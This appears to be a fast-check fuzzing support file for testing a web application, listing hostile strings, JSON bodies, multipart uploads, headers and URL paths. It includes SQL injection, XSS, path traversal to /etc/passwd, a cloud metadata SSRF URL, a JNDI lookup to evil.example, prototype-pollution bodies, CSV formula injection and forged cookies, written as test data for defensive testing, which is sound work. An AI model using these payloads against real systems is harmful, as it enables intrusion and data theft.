import fc from '../support/properties.ts';

/** Texts that have broken programs: each is sent wherever a text or a number is expected. */
const TEXTS = [
  '',
  ' ',
  '0',
  '-1',
  '1e99',
  '0x10',
  '1.5',
  'NaN',
  'Infinity',
  '-Infinity',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '9007199254740993',
  '9223372036854775808',
  '99999999999999999999999999999999999999',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff\ud800',
  '\u202e\u2066\ufeff',
  'ﷺ'.repeat(100),
  'Z\u0351\u036b\u0343'.repeat(60),
  '👩‍👩‍👧‍👦'.repeat(50),
  'ı İ ß ſ K',
  "'; drop table person; --",
  "1' or '1'='1",
  '1; select pg_sleep(5)',
  '$1',
  "\\'; select 1; --",
  'person_id',
  '%',
  '%s%n%x%p',
  '%00',
  '%c0%ae%c0%ae/',
  '\u0024{process.env}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  'http://127.0.0.1:1/',
  'https://[::1]/',
  '/dev/null',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'strength/1/__proto__',
  'playbook/constructor',
  '2026-02-30',
  '0000-00-00',
  '-271821-04-20',
  '+275760-09-13',
  '9999-12-31',
  '2026-13-45T99:99:99Z',
  'a@b.example\r\nBcc: all@b.example',
  '=cmd|/c calc!A1',
  'x'.repeat(201),
  'x'.repeat(10_000),
  '\n'.repeat(500),
];

/** A text nobody would type. */
export const hostileText = fc.oneof(
  fc.constantFrom(...TEXTS),
  fc.string({ unit: 'binary', maxLength: 300 }),
  fc.string({ unit: 'grapheme', maxLength: 60 }),
);

/** Numbers of rows that are there, in the own firm and in the other one, and numbers of none. */
export const hostileNumber = (known: readonly number[]) =>
  fc.oneof(
    { weight: 5, arbitrary: fc.constantFrom(...known) },
    { weight: 1, arbitrary: fc.integer() },
    {
      weight: 2,
      arbitrary: fc.constantFrom(0, -1, -0, 1.5, 2 ** 31, 2 ** 53, 2 ** 63, 1e308, -1e308, 5e-324),
    },
  );

/** Anything that JSON can say. */
export const hostileValue = (known: readonly number[]): fc.Arbitrary<unknown> =>
  fc.oneof(
    hostileText,
    hostileNumber(known),
    fc.boolean(),
    fc.constant(null),
    fc.array(fc.oneof(hostileText, hostileNumber(known)), { maxLength: 5 }),
    fc.dictionary(fc.oneof(fc.string(), fc.constantFrom('__proto__', 'constructor', 'toJSON')), hostileText, {
      maxKeys: 4,
    }),
    fc.constantFrom<unknown>(deep(100), Array(20_000).fill(0), { length: -1 }, [[[[]]]]),
  );

function deep(levels: number): unknown {
  let value: unknown = 0;
  for (let i = 0; i < levels; i++) value = i % 2 ? [value] : { a: value };
  return value;
}

/** Bodies that are no JSON of ours, with what they say they are. */
export const rawBody: fc.Arbitrary<{ type: string; body: Buffer }> = fc.oneof(
  fc.record({
    type: fc.constant('application/json'),
    body: fc
      .constantFrom(
        '',
        '{',
        '{"a":',
        '[]',
        '"x"',
        'null',
        '0',
        '{"__proto__":{"standing":"operator"}}',
        '{"constructor":{"prototype":{"orgId":1}}}',
        '['.repeat(100_000),
        '{"a":'.repeat(20_000),
        `{"name":"${'x'.repeat(3 * 1024 * 1024)}"}`,
        '{"name":"a","name":"b"}',
        '{"a":1e400}',
        '\ufeff{}',
        "{'a':1}",
      )
      .map((text) => Buffer.from(text)),
  }),
  fc.record({
    type: fc.constantFrom(
      'application/json; charset=utf-16',
      'application/x-www-form-urlencoded',
      'text/plain',
      'text/xml',
      'application/octet-stream',
      'a/b/c',
      ';;;',
      'application/json, text/html',
    ),
    body: fc.uint8Array({ maxLength: 400 }).map((bytes) => Buffer.from(bytes)),
  }),
  fc.record({
    type: fc.constantFrom('multipart/form-data; boundary=xx', 'multipart/form-data', 'multipart/form-data; boundary='),
    body: fc
      .constantFrom(
        '',
        '--xx',
        '--xx--\r\n',
        '--xx\r\n\r\n\r\n--xx--\r\n',
        part('name="file"; filename="../../etc/passwd"', 'a,b\r\n1,2'),
        part('name="file"; filename="\u0000.csv"', '\u0000\u0001\u0002'),
        part('name="file"; filename="x.csv"', 'number,assignee,opened\r\n1,Ana,2026-01-01\r\n"'),
        part('name="options"', '{"kind":"tickets"}') + part('name="file"; filename="x.csv"', ',,,\r\n'.repeat(2000)),
        part('name="options"', '{"__proto__":1') + part('name="file"; filename="x.csv"', 'x'),
        part('name="__proto__"', 'x') + part('name="file"; filename="x.csv"', 'x'),
        part('name="constructor"; filename="x"', 'x').repeat(6),
        part('name="options"', `{"kind":"${'x'.repeat(100_000)}"}`),
      )
      .map((text) => Buffer.from(text)),
  }),
);

function part(disposition: string, content: string): string {
  return `--xx\r\nContent-Disposition: form-data; ${disposition}\r\n\r\n${content}\r\n--xx--\r\n`;
}

/** Headers that lie, are too many, too long, or mean something else to somebody. */
export const hostileHeaders: fc.Arbitrary<[string, string][]> = fc.oneof(
  { weight: 6, arbitrary: fc.constant<[string, string][]>([]) },
  {
    weight: 4,
    arbitrary: fc.array(
      fc.constantFrom<[string, string]>(
        ['origin', 'https://evil.example'],
        ['origin', 'null'],
        ['sec-fetch-site', 'cross-site'],
        ['host', 'evil.example'],
        ['host', '127.0.0.1.evil.example'],
        ['host', 'localhost:1'],
        ['x-forwarded-host', 'evil.example'],
        ['x-forwarded-for', '127.0.0.1, 10.0.0.1'],
        ['x-forwarded-for', "'; select 1"],
        ['x-forwarded-proto', 'https'],
        ['forwarded', 'for=127.0.0.1;host=evil.example;proto=https'],
        ['x-http-method-override', 'DELETE'],
        ['x-original-url', '/api/people'],
        ['content-encoding', 'gzip'],
        ['content-encoding', 'br, deflate'],
        ['accept', '*/*;q=NaN'],
        ['accept', 'text/html'],
        ['accept-encoding', 'x'.repeat(2000)],
        ['accept-language', "'; drop table person"],
        ['accept-version', '9.9.9'],
        ['range', 'bytes=0-1,2-3,-9999999999999999999'],
        ['if-none-match', '*'],
        ['if-modified-since', 'yesterday'],
        ['expect', '100-continue'],
        ['user-agent', '\u00ff'.repeat(3000)],
        ['user-agent', '\u0024{jndi:ldap://evil.example/a}'],
        ['x-padding', 'y'.repeat(20_000)],
        ['cookie', 'evenkeel_session=forged'],
        ['cookie', 'evenkeel_session=; evenkeel_session=%00; __proto__=x'],
        ['cookie', `evenkeel_session=${'A'.repeat(5000)}`],
        ['authorization', 'Bearer x'],
        ['transfer-encoding', 'identity'],
        ['upgrade', 'websocket'],
        ['connection', 'upgrade'],
      ),
      { minLength: 1, maxLength: 4 },
    ),
  },
);

/** Places beside the operations: pages, files, and ways to leave the folder they lie in. */
export const RAW_PATHS = [
  '/',
  '/enter',
  '/enter?token=x&token=y',
  '/enter?token[]=x',
  '/enter?token=%00',
  '/enter?token=%ff',
  '/sign-in/back',
  '/sign-in/back?code=x&state=y',
  '/sign-in/back?error=%0d%0aset-cookie:a=b',
  '/sign-in/back?state[]=1&state[]=2',
  '/api',
  '/api/',
  '/api/nowhere',
  '/api/health',
  '/api/health?x=%',
  '//evil.example/',
  '/\\evil.example',
  '/assets/../../package.json',
  '/assets/..%2f..%2fpackage.json',
  '/assets/%2e%2e/%2e%2e/etc/passwd',
  '/..%5c..%5cpackage.json',
  '/%00',
  '/%',
  '/%ff',
  '/index.html',
  '/.built-from',
  '/.git/config',
  '/secret.key',
  '/assets/',
  `/${'a/'.repeat(2000)}`,
  `/api/people/${'9'.repeat(3000)}`,
  '/?__proto__[x]=1&constructor=2',
  '*',
];
